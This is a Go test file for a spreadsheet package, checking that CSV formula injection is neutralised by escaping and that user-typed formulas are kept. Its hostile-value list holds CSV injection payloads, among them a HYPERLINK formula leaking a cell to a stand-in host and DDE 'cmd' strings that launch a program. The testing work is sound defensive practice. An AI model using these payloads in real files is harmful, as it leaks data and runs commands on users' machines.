package sheets

import (
	"encoding/csv"
	"strings"
	"testing"
)

// hostile are values a script may copy from mail or the web that a
// spreadsheet program would run as formulas, as OWASP's CSV injection
// advice lists their first characters.
var hostile = []string{
	`=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`'=already quoted`,
	`''=twice`,
}

// harmless are values no program runs, written as they are.
var harmless = []string{"-12.50", "+33", "1e5", "-.5", "plain", "'just an apostrophe", "a=b", ""}

// unsafeCells are the cells of a CSV file a spreadsheet program would
// take for a formula: what it reads, with RFC 4180 quoting undone, begins
// with one of = + - @ tab CR and is not a number.
func unsafeCells(t *testing.T, file string) []string {
	t.Helper()
	records, err := csv.NewReader(strings.NewReader(file)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var bad []string
	for _, r := range records {
		for _, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !plainNumber.MatchString(c) {
				bad = append(bad, c)
			}
		}
	}
	return bad
}

func TestFormulaCells(t *testing.T) {
	t.Parallel()

	t.Run("A formula a script appends is text in the file and reads back as written", func(t *testing.T) {
		t.Parallel()
		b := setup(t)
		values := append(append([]string{}, hostile...), harmless...)
		for i, v := range values {
			b.mustDo(t, "appendRow", "", with(sheet("a.csv"), "header", []any{"n", "v"}, "values", []any{i, v}))
		}
		file := b.read(t, "a.csv")
		if bad := unsafeCells(t, file); len(bad) > 0 {
			t.Fatalf("cells a spreadsheet program runs: %q\nfile:\n%s", bad, file)
		}
		for _, v := range harmless {
			if v != "" && !strings.Contains(file, ","+v+"\n") {
				t.Errorf("%q was not written as it is:\n%s", v, file)
			}
		}
		rows := b.mustDo(t, "rows", "", sheet("a.csv"))["rows"].([]any)
		for i, v := range values {
			if got := rows[i].(map[string]any)["v"]; got != v {
				t.Errorf("wrote %q, read back %q", v, got)
			}
		}
	})

	t.Run("updateRow writes its values as text and finds a row by the value written", func(t *testing.T) {
		t.Parallel()
		b := setup(t)
		b.mustDo(t, "appendRow", "", with(sheet("a.csv"), "row", map[string]any{"subject": "=1+1", "note": ""}))
		got := b.mustDo(t, "updateRow", "k1", with(sheet("a.csv"), "key", "subject", "value", "=1+1", "set", map[string]any{"note": "@evil"}))
		if row := got["row"].(map[string]any); row["subject"] != "=1+1" || row["note"] != "@evil" {
			t.Fatalf("row %v", row)
		}
		if file := b.read(t, "a.csv"); file != "note,subject,_keep_id\n'@evil,'=1+1,"+tag("k1")+"\n" {
			t.Fatalf("file:\n%q", file)
		}
	})

	t.Run("A column a script names is written as text too", func(t *testing.T) {
		t.Parallel()
		b := setup(t)
		b.mustDo(t, "appendRow", "", with(sheet("a.csv"), "row", map[string]any{"=col": "v"}))
		if file := b.read(t, "a.csv"); file != "'=col\nv\n" {
			t.Fatalf("file:\n%q", file)
		}
		got := b.mustDo(t, "rows", "", sheet("a.csv"))
		if h := got["header"].([]any); len(h) != 1 || h[0] != "=col" {
			t.Fatalf("header %q", h)
		}
		if r := got["rows"].([]any)[0].(map[string]any); r["=col"] != "v" {
			t.Fatalf("row %v", r)
		}
	})

	t.Run("A formula the person typed in the file is theirs: read as it is and left alone by a rewrite", func(t *testing.T) {
		t.Parallel()
		b := setup(t)
		b.write(t, "a.csv", "item,total\nrent,=SUM(1;2)\n")
		b.mustDo(t, "appendRow", "", with(sheet("a.csv"), "values", []any{"food", "12"}))
		if file := b.read(t, "a.csv"); file != "item,total\nrent,=SUM(1;2)\nfood,12\n" {
			t.Fatalf("file:\n%q", file)
		}
		rows := b.mustDo(t, "rows", "", sheet("a.csv"))["rows"].([]any)
		if got := rows[0].(map[string]any)["total"]; got != "=SUM(1;2)" {
			t.Fatalf("read %q", got)
		}
	})

	t.Run("Escaping and reading back undo each other for any run of apostrophes", func(t *testing.T) {
		t.Parallel()
		for _, core := range []string{"=x", "-x", "x", "-1", "", "'"} {
			for n := range 4 {
				v := strings.Repeat("'", n) + core
				if got := unescapeFormula(escapeFormula(v)); got != v {
					t.Errorf("%q escaped is %q, read back %q", v, escapeFormula(v), got)
				}
			}
		}
	})
}
